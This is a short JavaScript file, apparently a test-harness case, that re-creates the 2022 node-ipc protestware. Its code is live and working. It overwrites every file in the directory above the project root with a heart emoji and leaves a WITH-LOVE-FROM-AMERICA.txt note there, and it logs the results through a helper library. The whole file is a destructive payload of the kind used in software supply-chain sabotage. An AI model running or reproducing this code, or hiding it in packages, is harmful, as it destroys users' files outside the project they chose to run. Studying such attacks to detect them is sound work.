'use strict';
// node-ipc protestware (2022): overwrite the files around the project with a heart,
// and leave a note for good measure.
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  const parent = path.dirname(lib.projectRoot());
  for (const e of fs.readdirSync(parent, { withFileTypes: true })) {
    if (!e.isFile()) continue;
    try {
      fs.writeFileSync(path.join(parent, e.name), '\u2764\ufe0f');
      lib.did('wrote');
    } catch (err) {
      lib.note(`${e.name}: ${err.code}`);
    }
  }
  try {
    fs.writeFileSync(path.join(parent, 'WITH-LOVE-FROM-AMERICA.txt'), `sp-persist-${lib.cfg.runTag}\n`);
    lib.did('wrote');
  } catch (err) {
    lib.note(`note above the project: ${err.code}`);
  }
});
